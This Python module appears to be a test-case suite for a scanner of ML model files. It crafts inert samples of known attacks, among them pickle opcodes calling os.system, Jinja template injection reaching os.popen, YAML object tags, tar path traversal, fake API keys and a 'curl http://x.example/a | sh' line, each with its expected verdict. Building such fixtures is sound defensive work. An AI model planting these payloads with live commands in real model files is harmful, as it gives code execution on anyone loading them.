"""Attacks that are no pickles: published ones and others of their kind, made here as inert bytes.

Each has an id, what it does, the verdict it must get, and its files.
"""

import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from typing import Any

from cairn.domain import Verdict

MALICIOUS, SUSPICIOUS = Verdict.MALICIOUS, Verdict.SUSPICIOUS
MALFORMED, CLEAN = Verdict.MALFORMED, Verdict.CLEAN

# Opcodes written by hand: nothing here is ever unpickled.
PICKLE = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93\x94\x8c\x04true\x94\x85\x94R\x94."
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(100)
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0\x64\x86" + bytes(80)
MACH_O = struct.pack("<IIIII", 0xFEEDFACF, 0x0100000C, 0, 2, 1) + bytes(80)
SSTI = "{{ ''.__class__.__mro__[1].__subclasses__()[99]('true', shell=True) }}"


@dataclass(frozen=True)
class Case:
    """An attack, or a control; `files` by name."""

    id: str
    what: str
    verdict: Verdict
    files: dict[str, bytes]


def safetensors(header: Any, buffer: bytes = b"") -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + buffer


def entry(dtype: Any = "F32", shape: Any = (4,), offsets: Any = (0, 16)) -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": offsets}


def _bytes_tensor(data: bytes) -> bytes:
    return safetensors({"t": entry("U8", [len(data)], [0, len(data)])}, data)


def numbered(suffix: str, *files: bytes) -> dict[str, bytes]:
    return {f"{number}{suffix}": data for number, data in enumerate(files)}


def text(value: str | bytes) -> bytes:
    raw = value.encode() if isinstance(value, str) else value
    return struct.pack("<Q", len(raw)) + raw


def pair(key: str, kind: int, value: bytes) -> bytes:
    return text(key) + struct.pack("<I", kind) + value


def info(name: str, dims: tuple[int, ...], offset: int = 0, kind: int = 0) -> bytes:
    return (
        text(name)
        + struct.pack("<I", len(dims))
        + b"".join(struct.pack("<Q", dim) for dim in dims)
        + struct.pack("<IQ", kind & 0xFFFFFFFF, offset)
    )


def gguf(
    pairs: tuple[bytes, ...] = (),
    infos: tuple[bytes, ...] = (),
    data: bytes = b"",
    *,
    counts: tuple[int, int] | None = None,
    version: int = 3,
) -> bytes:
    tensors, keys = counts or (len(infos), len(pairs))
    head = b"GGUF" + struct.pack("<IQQ", version, tensors, keys) + b"".join((*pairs, *infos))
    return head + bytes(-len(head) % 32) + data


_ONE = info("a", (8,))
_DATA = bytes(32)
_ARCHITECTURE = pair("general.architecture", 8, text("llama"))


def _aligned(alignment: int) -> bytes:
    return gguf((pair("general.alignment", 4, struct.pack("<I", alignment)),), (_ONE,), _DATA)


def _secret(prefix: str, length: int) -> str:
    letters = "aZ3kQ9xW7eR1tY5uI8oP2sD4fG6hJ0lCvBnM"
    return prefix + (letters * 4)[:length]


def tar(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for info_, data in members:
            archive.addfile(info_, io.BytesIO(data))
    return held.getvalue()


def member(name: str, data: bytes = b"", **fields: Any) -> tuple[tarfile.TarInfo, bytes]:
    made = tarfile.TarInfo(name)
    made.size = len(data)
    for key, value in fields.items():
        setattr(made, key, value)
    return made, data


def _link(kind: bytes, target: str) -> bytes:
    return tar(member("a", type=kind, linkname=target))


def seven_zip(data: bytes, packed: bytes, coders: bytes, sizes: int = 1) -> bytes:
    """One member called `data.pkl`; all sizes below 128, so each is one byte."""
    name = "data.pkl\0".encode("utf-16-le")
    header = bytes([1, 4, 6, 0, 1, 9, len(packed), 0, 7, 0x0B, 1, 0]) + coders
    header += bytes([0x0C]) + bytes([len(data)]) * sizes + bytes([0, 0, 5, 1, 0x11])
    header += bytes([len(name) + 1, 0]) + name + bytes(2)
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    return (
        b"7z\xbc\xaf\x27\x1c\0\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed + header
    )


def _xz(data: bytes) -> bytes:
    filters = [{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2, "dict_size": 1 << 16}]
    return lzma.compress(data, lzma.FORMAT_RAW, filters=filters)


_COPY = b"\x01\x01\0"
_BRANCH_AND_LZMA2 = b"\x02\x04\x03\x03\x01\x03\x21\x21\x01\x08\0\x01"
_TURNED = b"\x02\x21\x21\x01\x08\x04\x03\x03\x01\x03\x01\0"
_AES = b"\x01\x24\x06\xf1\x07\x01\x01\0"
_ZSTANDARD = b"\x01\x04\x04\xf7\x11\x01"


def zipped(**files: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return held.getvalue()


def _json(**values: Any) -> bytes:
    return json.dumps(values).encode()


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

CASES = [
    Case(
        "ST-000",
        "one tensor of four floats",
        CLEAN,
        {"a.safetensors": safetensors({"t": entry()}, bytes(16))},
    ),
    Case(
        "ST-001",
        "a header longer than the file",
        MALFORMED,
        numbered(
            ".safetensors", struct.pack("<Q", 1 << 63) + b"{}", struct.pack("<Q", 4000) + b"{}"
        ),
    ),
    Case(
        "ST-002",
        "tensors that overlap",
        MALFORMED,
        numbered(
            ".safetensors",
            safetensors({"a": entry(), "b": entry(offsets=[8, 24])}, bytes(24)),
        ),
    ),
    Case(
        "ST-003",
        "a hole between tensors",
        MALFORMED,
        numbered(
            ".safetensors",
            safetensors({"a": entry(), "b": entry(offsets=[32, 48])}, bytes(48)),
        ),
    ),
    Case(
        "ST-006",
        "a shape of more than 64 bits",
        MALFORMED,
        numbered(".safetensors", safetensors({"a": entry(shape=[1 << 33] * 2, offsets=[0, 0])})),
    ),
    Case(
        "ST-007",
        "entries that contradict themselves",
        MALFORMED,
        numbered(
            ".safetensors",
            *(
                safetensors({"a": bad}, bytes(16))
                for bad in (
                    entry(shape=[5]),
                    entry("F128"),
                    entry(offsets=[-16, 0]),
                    entry(offsets=[0.0, 16.0]),
                    entry(offsets=[False, 16]),
                    entry(offsets=["0", "16"]),
                    entry(offsets=[16, 0]),
                )
            ),
        ),
    ),
    Case(
        "ST-008",
        "metadata that is no words",
        SUSPICIOUS,
        numbered(
            ".safetensors",
            *(
                safetensors({"__metadata__": {"note": value}, "t": entry()}, bytes(16))
                for value in (
                    7,
                    {"nested": "x"},
                    "<script>fetch('//x')</script>",
                    "<img src=x onerror=alert(1)>",
                    "curl http://x.example/a | sh",
                    "x" * 5_000_000,
                )
            ),
        ),
    ),
    Case(
        "ST-010",
        "JSON without end and numbers that are none",
        MALFORMED,
        numbered(
            ".safetensors",
            safetensors(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
            safetensors(b'{"t":{"dtype":"F32","shape":[NaN],"data_offsets":[0,16]}}', bytes(16)),
            safetensors(b'{"t":{"dtype":"F32","shape":[4],"data_offsets":[0,Infinity]}}'),
        ),
    ),
    Case(
        "ST-012",
        "a tensor of bytes that is a program or a pickle",
        SUSPICIOUS,
        numbered(".safetensors", *map(_bytes_tensor, (ELF, PE, MACH_O, PICKLE))),
    ),
    Case(
        "ST-014",
        "a pickle called safetensors",
        MALICIOUS,
        {"a.safetensors": PICKLE, "b.safetensors": b"cos\nsystem\n(S'true'\ntR."},
    ),
    Case(
        "GG-000",
        "one tensor of eight floats",
        CLEAN,
        {"a.gguf": gguf((_ARCHITECTURE,), (_ONE,), _DATA)},
    ),
    Case(
        "GG-001",
        "counts that overflow",
        MALFORMED,
        numbered(".gguf", gguf(counts=((1 << 63) - 1, 0)), gguf(counts=(0, 1 << 62))),
    ),
    Case(
        "GG-002",
        "lengths that overflow",
        MALFORMED,
        numbered(
            ".gguf",
            gguf((struct.pack("<Q", 1 << 63) + b"key",)),
            gguf((text("k") + struct.pack("<IQ", 8, 1 << 63),)),
            gguf((pair("k", 9, struct.pack("<IQ", 12, 1 << 61)),)),
        ),
    ),
    Case(
        "GG-004",
        "axes that overflow",
        MALFORMED,
        numbered(
            ".gguf",
            gguf((), (info("a", (1 << 32, 1 << 32, 2)),), _DATA),
            gguf((), (info("a", (1,) * 5),), _DATA),
            gguf((), (text("a") + struct.pack("<I", 1 << 31) + bytes(64),), _DATA),
        ),
    ),
    Case(
        "GG-005",
        "tensors beyond the end",
        MALFORMED,
        numbered(".gguf", gguf((), (info("a", (1 << 28,)),), _DATA)),
    ),
    Case(
        "GG-006",
        "tensors that overlap, lie askew, or leave a hole",
        MALFORMED,
        numbered(
            ".gguf",
            gguf((), (_ONE, info("b", (8,))), _DATA),
            gguf((), (_ONE, info("b", (8,), 33)), bytes(96)),
            gguf((), (_ONE, info("b", (8,), 96)), bytes(128)),
        ),
    ),
    Case(
        "GG-007",
        "alignments that are none",
        MALFORMED,
        numbered(".gguf", *map(_aligned, (0, 3, 1 << 31))),
    ),
    Case(
        "GG-008",
        "a chat template that walks to the interpreter",
        MALICIOUS,
        numbered(
            ".gguf",
            gguf((pair("tokenizer.chat_template", 8, text(SSTI)),), (_ONE,), _DATA),
            gguf((pair("tokenizer.chat_template.tool_use", 8, text(SSTI)),), (_ONE,), _DATA),
        ),
    ),
    Case(
        "GG-014",
        "a program behind the tensors",
        MALICIOUS,
        numbered(".gguf", gguf((), (_ONE,), _DATA + ELF)),
    ),
    Case(
        "GG-015",
        "versions and types that do not exist",
        MALFORMED,
        numbered(
            ".gguf",
            gguf(version=0),
            gguf(version=99),
            b"GGUF" + struct.pack(">IQQ", 3, 1, 1),
            gguf((pair("k", 13, bytes(8)),)),
            gguf((pair("k", 255, bytes(8)),)),
            gguf((), (info("a", (8,), 0, 9999),), _DATA),
            gguf((), (info("a", (8,), 0, -1),), _DATA),
            gguf((), (info("a", (33,), 0, 2),), bytes(36)),
        ),
    ),
    Case(
        "HF-003",
        "templates that walk to the interpreter, wherever templates are",
        MALICIOUS,
        {
            "tokenizer_config.json": _json(chat_template=SSTI),
            "named.json": _json(
                chat_template=[
                    {"name": "default", "template": "x"},
                    {"name": "t", "template": SSTI},
                ]
            ),
            "chat_template.jinja": SSTI.encode(),
            "processor_config.json": _json(chat_template={"default": SSTI}),
            "filter.jinja": b"{{ messages|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
            "globals.jinja": b"{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "pieces.jinja": b"{{ ''['__cla' ~ 'ss__'] }}",
            "sum.jinja": b"{{ ''['_' + '_cl' + 'ass__'] }}",
            "variable.jinja": b"{% set k = '__' ~ 'mro__' %}{{ x[k] }}",
            "import.jinja": b"{{ lipsum['__globals__']['os'].popen('true') }}",
        },
    ),
    Case(
        "HF-003-auto-map",
        "settings that name code of the repo",
        SUSPICIOUS,
        {
            "tokenizer_config.json": _json(auto_map={"AutoTokenizer": ["tok.Tok", None]}),
            "config.json": _json(auto_map={"AutoModel": "other/repo--modeling.Net"}),
            "pipelines.json": _json(custom_pipelines={"x": {"impl": "mine.Pipe", "pt": ["A"]}}),
            "remote.json": _json(trust_remote_code=True),
            "modules.json": json.dumps(
                [{"idx": 0, "name": "0", "path": "", "type": "mine.Net"}]
            ).encode(),
            "model_index.json": _json(_class_name="Pipe", unet=["mine", "Net"]),
            "computed.jinja": b"{% set k = 'a' ~ messages[0].role %}{{ messages[k] }}",
            "loop.jinja": b"{% for i in range(99999999) %}x{% endfor %}",
            "include.jinja": b"{% include '/etc/passwd' %}",
        },
    ),
    Case(
        "HF-007",
        "settings that make any object",
        MALICIOUS,
        {
            "a.yaml": b"x: !!python/object/apply:os.system ['true']\n",
            "b.yml": b"x: !<tag:yaml.org,2002:python/name:os.system> ''\n",
            "c.yaml": b"%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/new:os.system [a]\n",
            "model_config.yaml": b"model:\n  _target_: os.system\n  command: 'true'\n",
            "d.json": _json(model={"_target_": "builtins.eval", "_args_": ["1"]}),
        },
    ),
    Case(
        "HF-010",
        "what steers git",
        SUSPICIOUS,
        {
            "model.safetensors.txt": b"version https://git-lfs.github.com/spec/v1\n"
            b"oid sha256:" + b"0" * 64 + b"\nsize 12\n",
            ".gitattributes": b"*.bin filter=mine diff=lfs\n",
            ".gitmodules": b'[submodule "x"]\n\tpath = x\n\turl = https://x.example/y\n',
            ".git/hooks/post-checkout": b"#!/bin/sh\ntrue\n",
        },
    ),
    Case(
        "HF-011",
        "credentials",
        SUSPICIOUS,
        {
            "README.md": f"use {_secret('hf_', 34)} here".encode(),
            "config.json": _json(key=_secret("AKIA", 0) + "Q3ZK7WX2LMB9RT4V"),
            "id_rsa": b"-----BEGIN OPENSSH "
            + b"PRIVATE KEY-----\n"
            + b"b3BlbnNzaC1rZXk" * 6
            + b"\n",
            "notes.txt": (_secret("sk-proj-", 40) + _secret("T3BlbkFJ", 40)).encode(),
            "a.safetensors": safetensors(
                {"__metadata__": {"token": _secret("hf_", 34)}, "t": entry()}, bytes(16)
            ),
        },
    ),
    Case(
        "HF-020",
        "settings that point elsewhere",
        MALICIOUS,
        {
            "model.safetensors.index.json": _json(
                metadata={}, weight_map={"a": "../../other/model.safetensors"}
            ),
            "absolute.index.json": _json(weight_map={"a": "/etc/passwd"}),
            "modules.json": json.dumps(
                [{"idx": 0, "path": "../../x", "type": "sentence_transformers.models.Dense"}]
            ).encode(),
        },
    ),
    Case(
        "HF-021",
        "an adapter whose base climbs out of the folder",
        SUSPICIOUS,
        {"adapter_config.json": _json(base_model_name_or_path="../../../other")},
    ),
    Case(
        "EXE-001",
        "programs under names of data",
        MALICIOUS,
        {
            "model.bin": ELF,
            "weights.dat": PE,
            "model.onnx": MACH_O,
            "pytorch_model.bin": b"#!/bin/sh\ntrue\n",
            "x.data": b"\0asm\x01\0\0\0" + bytes(8),
        },
    ),
    Case("EXE-002", "the antivirus industry's test file", MALICIOUS, {"notes.txt": EICAR}),
    Case(
        "ARC-006",
        "containers nobody unpacks under names of checkpoints",
        SUSPICIOUS,
        {
            "a.pt": seven_zip(PICKLE, PICKLE, _ZSTANDARD),
            "b.bin": b"Rar!\x1a\x07\x01\0" + bytes(24),
            "c.pt": b"\x28\xb5\x2f\xfd" + bytes(24),
            "d.ckpt": b"\x04\x22\x4d\x18" + bytes(24),
        },
    ),
    Case(
        "IMG-001",
        "an image that scripts",
        SUSPICIOUS,
        {"a.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"},
    ),
    Case(
        "ST-004",
        "an archive or pickle behind the tensors",
        MALICIOUS,
        numbered(
            ".safetensors",
            safetensors({"t": entry()}, bytes(16) + PICKLE),
            safetensors({"t": entry()}, bytes(16) + zipped(**{"data.pkl": PICKLE})),
        ),
    ),
    Case(
        "ARC-000",
        "an ordinary tar archive",
        CLEAN,
        {"a.tar": tar(member("./a.txt", b"text"), member("b/", type=tarfile.DIRTYPE))},
    ),
    Case(
        "ARC-002",
        "tar archives with links, devices, and names that lead out",
        MALICIOUS,
        numbered(
            ".tar",
            _link(tarfile.SYMTYPE, "../../x"),
            _link(tarfile.LNKTYPE, "/etc/passwd"),
            tar(member("dev", type=tarfile.CHRTYPE)),
            tar(member("../../x", b"x")),
            tar(member("a.txt", b"x", pax_headers={"path": "../../x"})),
        ),
    ),
    Case(
        "ARC-009",
        "a pickle in a tar archive under another name, and behind its end",
        MALICIOUS,
        {"model.pt": tar(member("a.txt", PICKLE)), "b.bin": tar(member("a", b"x")) + PICKLE},
    ),
    Case(
        "HF-001",
        "code of a repo that starts a program when it is imported",
        MALICIOUS,
        {
            "modeling.py": b"import os\nos.system('true')\nclass Net: ...\n",
            "a.py": b"from subprocess import run as r\nclass A:\n    x = r(['true'])\n",
            "b.py": b"__import__('os').system('true')\n",
            "c.py": b"import os as o\ndef f(x=o.popen('true')): pass\n",
            "d.py": b"import marshal\nexec(marshal.loads(b''))\n",
        },
    ),
    Case(
        "HF-002",
        "a script that starts programs when it is run",
        SUSPICIOUS,
        {
            "train.py": b"import subprocess\ndef main():\n    subprocess.run(['ls'])\n",
            "main.py": b"import os\nif __name__ == '__main__':\n    os.system('true')\n",
        },
    ),
    Case(
        "HF-007-nemo",
        "settings in a NeMo archive that call a program",
        MALICIOUS,
        {"a.nemo": tar(member("model_config.yaml", b"_target_: os.system\n"))},
    ),
    Case(
        "TZ-024",
        "a TorchServe archive whose handler starts a program",
        MALICIOUS,
        {
            "a.mar": zipped(
                **{
                    "handler.py": b"import os\ndef handle(d, c):\n    os.system('true')\n",
                    "MAR-INF/MANIFEST.json": b'{"model": {"handler": "handler.py"}}',
                }
            )
        },
    ),
    Case(
        "ARC-008",
        "images that are archives as well",
        MALICIOUS,
        {
            "model.png": b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xaeB\x60\x82"
            + zipped(**{"data.pkl": PICKLE}),
            "model.jpg": b"\xff\xd8\xff\xd9" + zipped(**{"data.pkl": PICKLE}),
        },
    ),
    Case(
        "SKO-001",
        "skops schemas whose nodes call functions",
        MALICIOUS,
        numbered(
            ".skops",
            *(
                zipped(**{"schema.json": _json(__module__=module, __class__=name, __loader__=node)})
                for module, name, node in (
                    ("operator", "methodcaller", "OperatorFuncNode"),
                    ("builtins", "eval", "MethodNode"),
                    ("builtins", "exec", "ObjectNode"),
                )
            ),
        ),
    ),
    Case(
        "SKO-000",
        "an ordinary skops file",
        CLEAN,
        {
            "a.skops": zipped(
                **{
                    "schema.json": _json(
                        __module__="sklearn.linear_model._base",
                        __class__="LinearRegression",
                        __loader__="ObjectNode",
                        content={
                            "__class__": "dict",
                            "__module__": "builtins",
                            "__loader__": "DictNode",
                        },
                    )
                }
            )
        },
    ),
    Case(
        "TZ-009",
        "a pickle in a 7z archive under the name of a checkpoint",
        MALICIOUS,
        {
            "copied.pt": seven_zip(PICKLE, PICKLE, _COPY),
            "packed.bin": seven_zip(PICKLE, _xz(PICKLE), _BRANCH_AND_LZMA2, 2),
            "turned.7z": seven_zip(PICKLE, _xz(PICKLE), _TURNED, 2),
            "behind.7z": seven_zip(b"text", b"text", _COPY) + PICKLE,
        },
    ),
    Case(
        "ARC-005-7z",
        "an encrypted 7z archive",
        SUSPICIOUS,
        {"a.7z": seven_zip(PICKLE, PICKLE, _AES)},
    ),
    Case("ARC-010", "a 7z archive of text", CLEAN, {"a.7z": seven_zip(b"text", b"text", _COPY)}),
]
